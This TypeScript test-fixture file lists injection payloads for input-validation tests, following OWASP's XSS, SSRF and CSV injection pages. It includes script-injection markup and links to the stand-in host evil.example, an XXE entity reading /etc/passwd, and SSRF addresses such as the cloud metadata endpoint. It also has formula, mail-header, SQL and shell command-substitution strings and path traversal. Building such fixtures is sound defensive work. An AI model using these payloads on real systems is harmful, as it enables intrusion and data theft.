// Texts that try to be more than text, one list for unit, API and browser tests: markup, scripts, addresses, formulas, headers of
// mail, queries, odd signs. After OWASP's XSS filter evasion, SSRF and CSV injection pages.

/** Markup that makes an element, ends one that is open, or hides in another language's. */
const MARKUP = [
  '</script><script>alert(1)</script>',
  '<!--<script>',
  '"><img src=x onerror=alert(1)>',
  "'onmouseover='alert(1)",
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<style>*{background:url(https://evil.example/)}</style>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '</main></body><body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/"><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<img src=x onerror=',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  '<<script>alert(1);//<</script>',
  '<script\u00a0x>alert(1)</script>',
  '--!><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#106;&#97;vascript:alert(1)',
  '&amp;lt;b&amp;gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= 7*7 %>',
  '#{7*7}',
]

/** What Markdown or a description's JSON would make of it. */
const DESCRIPTIONS = [
  '**<img src=x onerror=alert(1)>**',
  '**<script>**alert(1)**</script>**',
  '{"Summary": "<script>alert(1)</script>"}',
  '{"Summary": ["<img src=x onerror=alert(1)>"]}',
  '{"Summary": {"toString": "alert(1)"}}',
  '{"__proto__": {"Summary": "polluted"}}',
  '{"Summary": "two", "Summary": "one"}',
  '[a](javascript:alert(1))',
  '[a](https://evil.example "onmouseover=alert(1)")',
  '![a](https://evil.example/x.png)',
  '<https://evil.example/>',
  '`<script>alert(1)</script>`',
]

/** Addresses that no link may have and no server may ask. */
export const HOSTILE_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://evil.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'ftp://evil.example/',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  'https://startline.example@evil.example/',
  'https://user:secret@evil.example/',
  'http://evil.example/',
  'http://169.254.169.254/latest/meta-data/',
  'https://169.254.169.254/',
  'https://[::1]/',
  'https://[::ffff:127.0.0.1]/',
  'https://127.1/',
  'https://0x7f000001/',
  'https://2130706433/',
  'https://localhost/',
  'https://0/',
  'https://a b.example/',
  'https://evil.example/"onmouseover="alert(1)',
]

/** What a spreadsheet, a mail's header, a query or a shell would read as its own. */
const OTHER_LANGUAGES = [
  '=HYPERLINK("http://x.example","win")',
  "=cmd|' /C calc'!A0",
  '+1+1|cmd',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'a,"b";c',
  'x\r\nBcc: everybody@evil.example',
  'x%0d%0aBcc:%20everybody@evil.example',
  'x\u0085Bcc: everybody@evil.example',
  "'; drop table races; --",
  "' or '1'='1",
  '1) union select null --',
  '$(id)',
  '`id`',
  '| id',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '__proto__',
  'constructor',
  'toString',
]

/** Signs that turn, hide, part, break or flood a line. */
const ODD_SIGNS = [
  '\u202etxt.exe nohtaraM\u202c',
  '\u2066hidden\u2069 Marathon',
  'line\u2028separator\u2029paragraph',
  'two\r\nlines\tand\0zero',
  'half a pair \ud83d of signs',
  '\udc00 the other half',
  'zero\u200b\u200c\u200d\ufeffwidth',
  `Z${'\u0301\u0322\u0489'.repeat(20)}algo`,
  'N\u0303u\u0301n\u0303ez 🏃‍♀️ 東京',
  'Ñúñez 🏃‍♀️ 東京',
  'ﷺ ﷽ Ⅷ ﬁnish',
  'العربية 12 עברית',
]

export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...DESCRIPTIONS,
  ...HOSTILE_ADDRESSES,
  ...OTHER_LANGUAGES,
  ...ODD_SIGNS,
]

/** Payloads in texts of at most so many characters (UTF-16), one to a line, none cut. */
export function payloadTexts(mostCharacters: number): string[] {
  const texts: string[] = []
  for (const payload of PAYLOADS) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length < mostCharacters)
      texts[texts.length - 1] += `\n${payload}`
    else texts.push(payload)
  }
  return texts
}
